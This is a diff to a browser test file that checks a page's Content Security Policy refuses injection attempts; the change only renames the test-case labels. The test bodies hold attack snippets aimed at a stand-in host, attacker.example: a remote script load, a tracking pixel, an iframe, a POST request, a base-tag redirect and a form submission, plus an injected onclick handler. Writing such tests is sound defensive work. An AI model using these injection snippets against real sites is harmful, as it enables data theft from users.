@@ -120,7 +120,7 @@ function violation(page: Page, attempt: string): Promise<string> {
           "a handler in an attribute": () => {
             document.body.setAttribute("onclick", "window.attacked = true");
           },
-          "somebody else's script": () => {
+          "another site's script": () => {
             document.body.append(Object.assign(document.createElement("script"), { src: "https://attacker.example/a.js" }));
           },
           "a text as HTML": () => {
@@ -129,19 +129,19 @@ function violation(page: Page, attempt: string): Promise<string> {
           "a style in the page": () => {
             document.body.append(Object.assign(document.createElement("style"), { textContent: "body { display: none }" }));
           },
-          "a picture of somebody else": () => {
+          "another site's picture": () => {
             document.body.append(Object.assign(document.createElement("img"), { src: "https://attacker.example/pixel.gif" }));
           },
-          "a frame of somebody else": () => {
+          "another site's frame": () => {
             document.body.append(Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" }));
           },
-          "news to somebody else": () => {
+          "a request to another site": () => {
             void fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined);
           },
           "another base for links": () => {
             document.head.append(Object.assign(document.createElement("base"), { href: "https://attacker.example/" }));
           },
-          "a form that sends to somebody else": () => {
+          "a form that sends to another site": () => {
             const form = Object.assign(document.createElement("form"), { action: "https://attacker.example/", method: "post" });
             document.body.append(form);
             form.submit();
@@ -163,14 +163,14 @@ test("what an attacker would do is refused", async () => {
     [
       ["a script in the page", /require-trusted-types-for/],
       ["a handler in an attribute", /require-trusted-types-for/],
-      ["somebody else's script", /require-trusted-types-for/],
+      ["another site's script", /require-trusted-types-for/],
       ["a text as HTML", /require-trusted-types-for/],
       ["a style in the page", /style-src/],
-      ["a picture of somebody else", /img-src/],
-      ["a frame of somebody else", /frame-src/],
-      ["news to somebody else", /connect-src/],
+      ["another site's picture", /img-src/],
+      ["another site's frame", /frame-src/],
+      ["a request to another site", /connect-src/],
       ["another base for links", /base-uri/],
-      ["a form that sends to somebody else", /form-action/],
+      ["a form that sends to another site", /form-action/],
     ] as const,
     async ([attempt, directive]) => {
       await page.goto(address(TERMS));
